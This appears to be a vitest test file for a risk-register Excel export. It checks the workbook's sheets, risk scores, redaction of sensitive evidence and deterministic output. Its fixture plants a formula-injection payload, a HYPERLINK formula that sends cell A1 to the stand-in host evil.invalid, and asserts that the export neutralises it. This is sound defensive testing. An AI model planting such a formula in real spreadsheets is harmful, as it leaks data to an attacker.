// The register workbook: every sheet a client needs, scores from the real risk engine, hits and the
// evidence register, text neutralised against formula injection, and deterministic bytes.
import * as XLSX from '@e965/xlsx';
import { describe, expect, it } from 'vitest';
import { writeRegister } from '../../../src/core/io';
import { scoreProject } from '../../../src/core/risk';
import { screeningHitSchema, evidenceSchema } from '../../../src/core/model';
import type { ProjectSnapshot } from '../../../src/core/model';
import { importBytes, stadiumSheets, workbook } from './helpers';

function project(): ProjectSnapshot {
  const s = stadiumSheets();
  s.Parties![2]![8] = '=HYPERLINK("http://evil.invalid/?"&A1,"Open")';
  s.Parties![3]![1] = '+Koryo Manpower Services';
  const base = importBytes(workbook(s)).result;
  const agency = base.parties.find((p) => p.ref === 'AG-007')!;
  const at = '2026-05-02T00:00:00.000Z';
  return {
    ...base,
    hits: [screeningHitSchema.parse({ id: 'hit_1', projectId: base.project.id, partyId: agency.id, queryName: agency.name, listId: 'un', listSource: 'UN', entryRef: 'KPe.999', entryName: 'KORYO MANPOWER', matchedName: 'Koryo Manpower', score: 0.93, explanation: {}, entryHash: 'x', status: 'confirmed', reason: '@escalated', createdAt: at, updatedAt: at })],
    evidence: [
      evidenceSchema.parse({ id: 'evd_1', projectId: base.project.id, subject: { type: 'party', id: agency.id }, title: 'Payroll', fileName: 'payroll.xlsx', size: 10, sha256: 'a'.repeat(64), createdAt: at, updatedAt: at }),
      evidenceSchema.parse({ id: 'evd_2', projectId: base.project.id, subject: { type: 'project', id: base.project.id }, title: 'Interview with worker A', fileName: 'interview.m4a', size: 20, sha256: 'b'.repeat(64), sensitive: true, description: 'names the minder', createdAt: at, updatedAt: at }),
    ],
  };
}

const rows = (bytes: Uint8Array, sheet: string) => XLSX.utils.sheet_to_json<(string | number)[]>(XLSX.read(bytes, { type: 'array' }).Sheets[sheet]!, { header: 1, defval: '' });

describe('register workbook', () => {
  const snapshot = project();
  const risk = scoreProject(snapshot, { asOf: '2026-05-01' });
  const bytes = writeRegister(snapshot, { risk, exportedAt: '2026-05-03T09:00:00.000Z' });

  it('has the summary, parties with scores and hits, links, workforce, findings, hits and evidence', () => {
    expect(XLSX.read(bytes, { type: 'array' }).SheetNames).toEqual(['Summary', 'Parties', 'Links', 'Workforce', 'Findings', 'Screening hits', 'Evidence']);
    const parties = rows(bytes, 'Parties');
    expect(parties[0]!.slice(0, 16)).toEqual(['ID', 'Name', 'Kind', 'Country', 'Country name', 'Sector', 'Tier', 'Inherent score', 'Inherent level', 'Exposure score', 'Exposure level', 'Completeness %', 'Insufficient data', 'Open hits', 'Confirmed hits', 'Dismissed hits']);
    const agencyRow = parties.find((r) => r[0] === 'AG-007')!;
    const agencyRisk = risk.parties.find((p) => p.name === '+Koryo Manpower Services')!;
    expect(agencyRow[7]).toBe(agencyRisk.inherent.score);
    expect(agencyRow[8]).toBe(agencyRisk.inherent.level);
    expect(agencyRow[11]).toBe(Math.round(agencyRisk.completeness * 1000) / 10);
    expect(agencyRow[14]).toBe(1);
    expect(parties.find((r) => r[0] === 'GC-001')![6]).toBe(0);
    expect(rows(bytes, 'Links')).toHaveLength(5);
    const crew = rows(bytes, 'Workforce')[1]!;
    expect([crew[0], crew[2], crew[4], crew[5], crew[6]]).toEqual(['CREW-01', 'KP', 40, 'team_leader', 'minder']);
    const findings = rows(bytes, 'Findings');
    expect(findings.length).toBeGreaterThan(1);
    expect(findings.slice(1).every((r) => risk.parties.some((p) => p.indicators.some((i) => i.code === r[2])) || r[2] === 'GAP' || r[2] === 'RULE')).toBe(true);
    const evidence = rows(bytes, 'Evidence');
    expect(evidence[1]!.slice(0, 7)).toEqual(['evd_1', 'Payroll', 'payroll.xlsx', 'AG-007 +Koryo Manpower Services', 'application/octet-stream', 10, 'a'.repeat(64)]);
    expect(rows(bytes, 'Summary').find((r) => r[0] === 'Risk model')![1]).toMatch(new RegExp(`^${risk.modelVersion}`));
  });

  it('neutralises every text cell that a spreadsheet would run as a formula', () => {
    const wb = XLSX.read(bytes, { type: 'array', cellFormula: true });
    let checked = 0;
    for (const name of wb.SheetNames) {
      for (const [ref, cell] of Object.entries(wb.Sheets[name]!)) {
        if (ref.startsWith('!')) continue;
        const c = cell as XLSX.CellObject;
        expect(c.f, `${name}!${ref}`).toBeUndefined();
        if (typeof c.v === 'string') {
          checked++;
          expect(/^[=+\-@\t\r]/.test(c.v), `${name}!${ref} ${c.v}`).toBe(false);
        }
      }
    }
    expect(checked).toBeGreaterThan(50);
    expect(rows(bytes, 'Parties').find((r) => r[0] === 'SUB-004')).toContain('\'=HYPERLINK("http://evil.invalid/?"&A1,"Open")');
    expect(rows(bytes, 'Screening hits')[1]).toContain("'@escalated");
  });

  it('can list sensitive evidence by hash only', () => {
    const redacted = writeRegister(snapshot, { risk, exportedAt: '2026-05-03T09:00:00.000Z', redactSensitive: true });
    const sensitive = rows(redacted, 'Evidence').find((r) => r[0] === 'evd_2')!;
    expect(sensitive.slice(1, 3)).toEqual(['(sensitive, withheld)', '']);
    expect(sensitive).toContain('b'.repeat(64));
    expect(sensitive.join(' ')).not.toMatch(/minder|interview/i);
  });

  it('is deterministic and says "not scored" without a risk result', () => {
    expect(Buffer.from(writeRegister(snapshot, { risk, exportedAt: '2026-05-03T09:00:00.000Z' })).equals(Buffer.from(bytes))).toBe(true);
    const unscored = writeRegister(snapshot, { exportedAt: '2026-05-03T09:00:00.000Z' });
    expect(rows(unscored, 'Parties')[1]![8]).toBe('not scored');
  });
});
